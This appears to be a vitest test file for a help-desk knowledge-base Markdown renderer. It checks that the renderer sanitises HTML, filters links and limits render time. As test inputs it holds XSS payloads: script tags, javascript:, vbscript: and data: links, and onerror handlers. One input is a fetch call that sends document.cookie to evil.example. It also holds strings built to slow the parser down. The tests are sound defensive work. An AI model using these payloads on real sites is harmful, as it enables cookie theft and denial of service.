import { characterEntities } from 'character-entities';
import { describe, expect, it } from 'vitest';
import { UnprocessableError } from '#shared/domain/errors';
import { escapeHtml } from '#shared/domain/html-entities';
import { markdownToText } from '#shared/kb/markdown-text';
import { decodeNamedCharacterReference } from '#shared/kb/named-character-reference';
import {
  RENDER_BUDGET_MS,
  renderArticleBody,
  renderArticleForReading,
  renderMarkdown,
  renderMarkdownWithin,
} from '#shared/kb/render';

describe('Module: kb/render', () => {
  describe('Function: renderMarkdown', () => {
    it('renders headings, lists, emphasis, code and tables', () => {
      // Act
      const html = renderMarkdown(
        '## Steps\n\n1. Open **Settings**\n2. Choose _Wi-Fi_\n\n`ipconfig /flushdns`\n\n| a | b |\n|---|---|\n| 1 | 2 |',
      );

      // Assess
      expect(html).toContain('<h2>Steps</h2>');
      expect(html).toContain('<ol>');
      expect(html).toContain('<li>Open <strong>Settings</strong></li>');
      expect(html).toContain('<em>Wi-Fi</em>');
      expect(html).toContain('<code>ipconfig /flushdns</code>');
      expect(html).toContain('<td>1</td>');
    });

    it('writes no <script> element: what was inside it is inert text', () => {
      const html = renderMarkdown('Hello <script>alert(document.cookie)</script> world');
      expect(html).toBe('<p>Hello alert(document.cookie) world</p>');
    });

    it('writes no raw HTML: tags and comments leave their text, escaped', () => {
      // Act
      const inline = renderMarkdown('Press <kbd>Ctrl</kbd>+<b>Alt</b> <!-- hidden --> & go');
      const block = renderMarkdown(
        '<div class="note" onclick="steal()">\nSave <i>first</i> & "then" quit\n</div>\n\nAfter',
      );
      const script = renderMarkdown('<script>\nfetch("https://evil.example/" + document.cookie)\n</script>');

      // Assess
      expect(inline).toBe('<p>Press Ctrl+Alt  &amp; go</p>');
      expect(block).toBe('\nSave first &amp; &quot;then&quot; quit\n\n<p>After</p>');
      expect(script).not.toMatch(/<script|<\/script/);
      expect(script).toContain('fetch(&quot;https://evil.example/&quot; + document.cookie)');
    });

    it('keeps relative links to the desk and drops protocol-relative ones', () => {
      expect(renderMarkdown('[see KB-12](/kb/articles/12) [up](#top)')).toBe(
        '<p><a href="/kb/articles/12" rel="noopener noreferrer nofollow">see KB-12</a> <a href="#top" rel="noopener noreferrer nofollow">up</a></p>',
      );
      expect(
        renderMarkdown('[away](//evil.example/x) [away](/\\evil.example/x) [chat](irc://irc.example/help)'),
      ).toBe(
        // A backslash is a path character here, written as %5C: the link stays on the desk.
        '<p>away <a href="/%5Cevil.example/x" rel="noopener noreferrer nofollow">away</a> chat</p>',
      );
    });

    it('checks a link inside a link too: the inner one keeps only its text', () => {
      expect(renderMarkdown('[<irc://q>](https://ok.example)')).toBe(
        '<p><a href="https://ok.example" rel="noopener noreferrer nofollow">irc://q</a></p>',
      );
      expect(renderMarkdown('[<irc://q>](javascript:x)')).toBe('<p>irc://q</p>');
      expect(renderMarkdown('[x <https://a.example> y](//evil.example)')).toBe(
        '<p>x https://a.example y</p>',
      );
    });

    it('shows what an image is of, not the image', () => {
      expect(renderMarkdown('![The VPN icon](https://tracker.example/p.gif "tray")')).toBe(
        '<p>The VPN icon</p>',
      );
    });

    it.each([
      ['a javascript: link', '[click](javascript:alert(1))'],
      ['an encoded javascript: link', '[click](jav&#x61;script:alert(1))'],
      ['a raw HTML javascript: link', '<a href="javascript:alert(1)">click</a>'],
      ['a data: link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
      ['a vbscript: link', '[click](vbscript:msgbox(1))'],
    ])('drops the target of %s', (_case, markdown) => {
      const html = renderMarkdown(markdown);
      expect(html).toContain('click');
      expect(html).not.toMatch(/javascript|vbscript|data:/i);
      expect(html).not.toContain('href');
    });

    it('removes event handlers, images, iframes and styles', () => {
      const html = renderMarkdown(
        '<p onclick="alert(1)" style="color:red">x</p><img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe>\n\n![pixel](https://tracker.example/p.gif)',
      );
      expect(html).not.toMatch(/onclick|onerror|style|<img|<iframe|tracker/i);
    });

    it('keeps http(s) and mailto links, opening nothing back to the desk', () => {
      const html = renderMarkdown('[portal](https://myapps.microsoft.com) [mail](mailto:help@example.com)');
      expect(html).toContain(
        '<a href="https://myapps.microsoft.com" rel="noopener noreferrer nofollow">portal</a>',
      );
      expect(html).toContain('href="mailto:help@example.com"');
    });
  });

  describe('Function: decodeNamedCharacterReference', () => {
    it('answers what micromark would otherwise look up, for every name HTML defines', () => {
      // Arrange
      const names = Object.keys(characterEntities);

      // Act
      const differing = names.filter(
        (name) => decodeNamedCharacterReference(name) !== characterEntities[name],
      );

      // Assess
      expect(names.length).toBeGreaterThan(2000);
      expect(differing).toEqual([]);
    });

    it('answers false for a name HTML does not define, and for numeric references', () => {
      expect(decodeNamedCharacterReference('notanentity')).toBe(false);
      expect(decodeNamedCharacterReference('ampx')).toBe(false);
      expect(decodeNamedCharacterReference('#65')).toBe(false);
    });

    it('leaves the renderer its meaning: known names decode, unknown ones stay text', () => {
      expect(renderMarkdown('&copy; &notin; &NotAName;')).toBe('<p>© ∉ &amp;NotAName;</p>');
    });
  });

  describe('Functions: renderMarkdownWithin, renderArticleBody, renderArticleForReading', () => {
    // micromark's time grows with the square of these runs; each is within the body limit
    // (50,000 characters) and takes seconds.
    const SLOW = {
      'setext headings': 'a\n=\n'.repeat(12_500),
      'ordered list markers': '1. '.repeat(16_000),
      'emphasis delimiters': '*a'.repeat(25_000),
    };

    it('renders an ordinary body as renderMarkdown does', () => {
      const body = '## Steps\n\n1. Open **Settings**\n2. Choose [Wi-Fi](https://wifi.example)';
      expect(renderMarkdownWithin(body)).toBe(renderMarkdown(body));
      expect(renderArticleBody(body)).toBe(renderMarkdown(body));
      expect(renderArticleForReading(body)).toBe(renderMarkdown(body));
    });

    it.each(Object.entries(SLOW))('gives up on %s past the budget', (_name, body) => {
      const started = performance.now();
      expect(renderMarkdownWithin(body, 200)).toBeUndefined();
      expect(performance.now() - started).toBeLessThan(5_000);
    });

    it('refuses to write a body past the budget, naming the field and what to do', () => {
      // Act
      let refused: unknown;
      try {
        renderArticleBody(SLOW['setext headings']);
      } catch (error) {
        refused = error;
      }

      // Assess
      expect(refused).toBeInstanceOf(UnprocessableError);
      expect((refused as UnprocessableError).issues).toEqual([
        { field: 'body.body', message: expect.stringContaining(`longer than ${RENDER_BUDGET_MS / 1000} s`) },
      ]);
      expect((refused as UnprocessableError).issues[0]?.message).toContain('split the article');
    });

    it('reads a body past the budget as its Markdown, escaped and preformatted', () => {
      const body = `<script>alert(1)</script>\n${SLOW['emphasis delimiters']}`;
      expect(renderArticleForReading(body)).toBe(
        `<pre>&#60;script&#62;alert(1)&#60;/script&#62;\n${SLOW['emphasis delimiters']}</pre>`,
      );
    });
  });

  describe('Function: markdownToText', () => {
    it('keeps the words a reader sees, blocks apart, without markup or link targets', () => {
      // Act
      const text = markdownToText(
        '## Reset\n\nOpen **https://aka.ms/sspr** and [the portal](https://portal.example.com).\n\n- one\n- two &amp; three\n\n<b>bold</b> `C:\\Windows`',
      );

      // Assess
      expect(text).toBe(
        'Reset\n\nOpen https://aka.ms/sspr and the portal.\n\none\ntwo & three\n\nbold C:\\Windows',
      );
    });
  });

  describe('Function: markdownToText, on bodies marked cannot lex', () => {
    it('reads nesting too deep for marked (a stack overflow) as its words', () => {
      expect(markdownToText(`${'1. '.repeat(3_000)}Reseat the **RAM** <b>first</b>`)).toMatch(
        /^(?:1\. )+Reseat the RAM first$/,
      );
      expect(markdownToText(`${'>'.repeat(5_000)} Check the [fuser](https://fuser.example)`)).toBe(
        'Check the fuser https://fuser.example',
      );
    });

    it('gives a body 1 s and then reads it as its words', () => {
      // Arrange: marked takes about 3 s on 50,000 characters of `_a` here.
      const slow = `Printer ${'_a'.repeat(24_990)} toner`;
      const started = performance.now();

      // Act
      const text = markdownToText(slow);

      // Assess
      expect(performance.now() - started).toBeLessThan(2_500);
      expect(text).toMatch(/^Printer a a a .* a toner$/);
    });

    it('keeps the words of a body full of unclosed tags, as marked or as its rough words', () => {
      expect(markdownToText(`<div>\n${'<a '.repeat(2_000)}printer`)).toBe(`${'<a '.repeat(2_000)}printer`);
      expect(markdownToText(`${'1. '.repeat(3_000)}${'<b '.repeat(2_000)}toner`)).toMatch(/<b toner$/);
    });

    it('reads an ordinary long body as marked lexes it', () => {
      const body = `## Steps\n\n${'Open **Settings** and choose _Wi-Fi_.\n\n'.repeat(400)}`;
      expect(body.length).toBeGreaterThan(10_000);
      expect(markdownToText(body)).toBe(
        `Steps\n\n${'Open Settings and choose Wi-Fi.\n\n'.repeat(400).trim()}`,
      );
    });
  });

  describe('Function: escapeHtml', () => {
    it('escapes the five characters that matter in HTML text and attributes', () => {
      expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
        '&#60;a href=&#34;x&#34; title=&#39;y&#39;&#62;&#38;&#60;/a&#62;',
      );
    });
  });
});
